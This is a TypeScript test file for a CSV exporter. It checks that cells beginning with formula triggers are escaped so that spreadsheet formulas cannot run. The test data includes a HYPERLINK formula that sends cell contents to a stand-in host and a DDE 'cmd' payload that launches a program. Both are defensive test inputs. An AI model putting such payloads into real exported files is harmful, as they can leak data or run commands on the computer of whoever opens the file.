import assert from 'node:assert/strict'
import { describe, it } from 'vitest'
import { columnsOf, csvLine, valuesOf } from './csv.ts'

const calls = ['HYPERLINK("http://x.example?"&A1,"Click")', "cmd|' /C calc'!A0", '1+1', 'SUM(1)*1', 'A1', '']
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0+',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '\t',
  '\r',
  '\n',
]

describe('a CSV table', () => {
  for (const start of starts)
    it(`[IMP-9] runs nothing that begins with ${JSON.stringify(start)}`, () => {
      for (const call of calls) {
        const [text] = readBack(csvLine([start + call]))
        assert.equal(text, `'${start}${call}`)
      }
    })

  it('[IMP-9] leaves numbers and other texts as they are', () => {
    const kept = [
      '-5',
      '+5',
      '-0.25',
      '-1e-9',
      '+1,5',
      '5',
      'a=b',
      '1+1',
      'x@y.example',
      "it's",
      "'=1",
      '{"a":"=1"}',
      '',
    ]
    assert.deepEqual(readBack(csvLine(kept)), kept)
    assert.equal(csvLine([-5, 0, true, null, undefined]), '-5,0,true,,\r\n')
  })

  it('[IMP-9] runs no formula in anything users can choose: texts, ids, field names, custom values', () => {
    const data = { id: '=id', user: '@ada', text: '=1+1', command: '+1+1', parent_id: '-x', mood: '=1' }
    const columns = columnsOf(['=named', ...Object.keys(data)])
    const [header, values] = [readBack(csvLine(columns)), readBack(csvLine(valuesOf(data, columns)))]
    assert.deepEqual(header, ["'=named", 'id', 'user', 'text', 'command', 'parent_id', 'mood'])
    assert.deepEqual(values, ['', "'=id", "'@ada", "'=1+1", "'+1+1", "'-x", "'=1"])
    const whole = readBack(csvLine(valuesOf(data, columnsOf(undefined))))
    assert.equal(whole.at(-1), '{"command":"+1+1","mood":"=1"}')
    assert.ok(whole.every((cell) => !/^[=+\-@\t\r]/.test(cell)))
  })
})

/** The cells of one line, as a program reads them. */
function readBack(line: string): string[] {
  assert.ok(line.endsWith('\r\n'))
  return [...`${line.slice(0, -2)},`.matchAll(/("(?:[^"]|"")*"|[^,]*),/gs)].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  )
}
